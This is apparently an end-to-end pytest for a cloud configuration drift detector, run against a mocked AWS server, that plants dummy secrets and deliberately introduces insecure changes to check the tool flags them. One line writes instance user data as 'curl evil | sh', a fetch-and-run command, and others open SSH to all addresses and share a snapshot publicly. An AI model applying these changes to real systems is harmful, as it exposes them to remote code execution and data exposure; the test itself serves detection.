"""The main job against a moto server: two accounts, three regions, through the command line."""

from __future__ import annotations

import base64
from typing import Any

import boto3
import pytest

from tests.e2e.conftest import Cli

REGIONS = ("us-east-1", "eu-west-1", "ap-south-1")
FIRST, SECOND = "123456789012", "222222222222"
ROLE = f"arn:aws:iam::{SECOND}:role/audit"
KEYS = {"aws_access_key_id": "a", "aws_secret_access_key": "b"}
SECRETS = ("planted-user-data-4711", "AKIAPLANTED4711PLANT", "planted-tag-password-4711")

CONFIG = f"""
[run]
# moto does not serve these:
skip_tables = [
    "aws_ec2_instance_connect_endpoints",
    "aws_ec2_regional_settings",
    "aws_ec2_security_group_vpc_associations",
    "aws_ec2_vpc_block_public_access",
]
concurrency = 8

[aws]
regions = {list(REGIONS)}

[[aws.accounts]]
id = "{FIRST}"

[[aws.accounts]]
id = "{SECOND}"
role_arn = "{ROLE}"
"""


class Estate:
    """Instances, groups and a snapshot in each account and region."""

    def __init__(self, url: str) -> None:
        self.url = url
        sts = boto3.client("sts", endpoint_url=url, region_name=REGIONS[0], **KEYS)
        assumed = sts.assume_role(RoleArn=ROLE, RoleSessionName="set-up")["Credentials"]
        second = {
            "aws_access_key_id": assumed["AccessKeyId"],
            "aws_secret_access_key": assumed["SecretAccessKey"],
            "aws_session_token": assumed["SessionToken"],
        }
        self.ec2 = {
            (account, region): boto3.client("ec2", endpoint_url=url, region_name=region, **keys)
            for account, keys in ((FIRST, KEYS), (SECOND, second))
            for region in REGIONS
        }
        self.instances: dict[tuple[str, str], list[str]] = {}
        self.groups: dict[tuple[str, str], str] = {}
        for place, client in self.ec2.items():
            self._fill(place, client)
        home = self.ec2[FIRST, REGIONS[0]]
        volume = home.create_volume(AvailabilityZone="us-east-1a", Size=8)["VolumeId"]
        self.snapshot = home.create_snapshot(VolumeId=volume)["SnapshotId"]

    def _fill(self, place: tuple[str, str], client: Any) -> None:
        group = client.create_security_group(GroupName="web", Description="web")["GroupId"]
        self.groups[place] = group
        self.instances[place] = [
            i["InstanceId"]
            for i in client.run_instances(
                ImageId="ami-12c6146b",
                MinCount=3,
                MaxCount=3,
                SecurityGroupIds=[group],
                MetadataOptions={
                    "HttpTokens": "required",
                    "HttpEndpoint": "enabled",
                    "HttpPutResponseHopLimit": 1,
                },
                UserData=f"export TOKEN={SECRETS[0]}",
                TagSpecifications=[
                    {
                        "ResourceType": "instance",
                        "Tags": [
                            {"Key": "Name", "Value": "web"},
                            {"Key": "deploy", "Value": f"key {SECRETS[1]}"},
                            {"Key": "db-password", "Value": SECRETS[2]},
                        ],
                    }
                ],
            )["Instances"]
        ]


def about(findings: list[dict[str, Any]]) -> set[tuple[str, str, str]]:
    """Query, verdict and short id of each finding."""
    return {(f["query_id"], f["verdict"], f["resource_id"].rsplit("/", 1)[-1]) for f in findings}


def encoded(text: str) -> bytes:
    """User data as ModifyInstanceAttribute wants it."""
    return base64.b64encode(text.encode())


@pytest.mark.moto
@pytest.mark.slow
def test_the_main_job(cli: Cli, moto_url: str) -> None:
    estate = Estate(moto_url)
    cli.environment = {
        "AWS_ENDPOINT_URL": moto_url,
        "AWS_ACCESS_KEY_ID": "a",
        "AWS_SECRET_ACCESS_KEY": "b",
        "AWS_DEFAULT_REGION": REGIONS[0],
    }
    cli.configure(CONFIG)

    code, first = cli.run()
    assert code == 4
    assert first["baseline"] is None
    assert first["outcome"] == "unapproved"
    instances = [c for c in first["coverage"] if c["table"] == "aws_ec2_instances"]
    assert {(c["account_id"], c["region"], c["status"], c["rows"]) for c in instances} == {
        (account, region, "complete", 3) for account in (FIRST, SECOND) for region in REGIONS
    }
    assert "nobody has approved" in cli("report").stdout

    approved = cli("baseline", "approve", "--reason", "first", "--by", "alice", "--yes")
    assert approved.returncode == 0, approved.stderr
    assert cli.json("baseline", "list")[0]["approved_by"] == "alice"
    code, again = cli.run()
    assert (code, again["findings"]) == (0, [])

    home, far = (FIRST, REGIONS[0]), (SECOND, REGIONS[1])
    ec2, other = estate.ec2[home], estate.ec2[far]
    added = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)
    new = added["Instances"][0]["InstanceId"]
    weakened, rewritten = estate.instances[home][0], estate.instances[far][0]
    ec2.modify_instance_metadata_options(
        InstanceId=weakened,
        HttpTokens="optional",
        HttpEndpoint="enabled",
        HttpPutResponseHopLimit=1,
    )
    opened = [
        {
            "IpProtocol": "tcp",
            "FromPort": 22,
            "ToPort": 22,
            "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
        }
    ]
    group = estate.groups[far]
    other.authorize_security_group_ingress(GroupId=group, IpPermissions=opened)
    other.modify_instance_attribute(
        InstanceId=rewritten, UserData={"Value": encoded("curl evil | sh")}
    )
    ec2.modify_snapshot_attribute(
        SnapshotId=estate.snapshot,
        Attribute="createVolumePermission",
        OperationType="add",
        GroupNames=["all"],
    )
    gone = estate.instances[FIRST, REGIONS[2]][1]
    estate.ec2[FIRST, REGIONS[2]].terminate_instances(InstanceIds=[gone])

    expected = {
        ("new_instance", "NEW", new),
        ("default_group_in_use", "SUSPICIOUS", new),
        ("setting_changed", "LOOSENED", weakened),
        ("policy_loosened", "LOOSENED", group),
        ("setting_changed", "SUSPICIOUS", rewritten),
        ("snapshot_shared", "LOOSENED", estate.snapshot),
        ("removed_instance", "REMOVED", gone),
    }
    code, drift = cli.run()
    assert code == 3
    assert about(drift["findings"]) == expected
    assert len(drift["findings"]) == len(expected)
    assert {f["status"] for f in drift["findings"]} == {"new"}
    for finding in drift["findings"]:
        sides = (finding["before"] is not None, finding["after"] is not None)
        assert sides == {
            "new_instance": (False, True),
            "default_group_in_use": (False, True),
            "policy_loosened": (False, True),
            "removed_instance": (True, False),
        }.get(finding["query_id"], (True, True)), finding

    code, third = cli.run()
    assert code == 3
    assert {f["fingerprint"] for f in third["findings"]} == {
        f["fingerprint"] for f in drift["findings"]
    }
    assert {f["status"] for f in third["findings"]} == {"open"}

    ec2.terminate_instances(InstanceIds=[new])
    ec2.modify_instance_metadata_options(
        InstanceId=weakened,
        HttpTokens="required",
        HttpEndpoint="enabled",
        HttpPutResponseHopLimit=1,
    )
    other.revoke_security_group_ingress(GroupId=group, IpPermissions=opened)
    other.modify_instance_attribute(
        InstanceId=rewritten, UserData={"Value": encoded(f"export TOKEN={SECRETS[0]}")}
    )
    ec2.modify_snapshot_attribute(
        SnapshotId=estate.snapshot,
        Attribute="createVolumePermission",
        OperationType="remove",
        GroupNames=["all"],
    )
    removed = next(f for f in third["findings"] if f["verdict"] == "REMOVED")["fingerprint"]
    accepted = cli(
        "baseline", "approve", "--finding", removed[:8], "--reason", "retired", "--by", "alice",
        "--yes",
    )  # fmt: skip
    assert accepted.returncode == 0, accepted.stderr
    code, last = cli.run()
    assert code == 0, last["findings"]
    assert about(last["findings"]) == expected
    assert {f["status"] for f in last["findings"]} == {"resolved"}
    assert last["summary"]["total"] == 0

    assert cli("store", "verify").returncode == 0
    for path in cli.folder.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert not [s for s in SECRETS if s.encode() in content], path
    leaked = cli("report").stdout + cli("report", "--json").stdout + cli("history", weakened).stdout
    assert not [s for s in SECRETS if s in leaked]
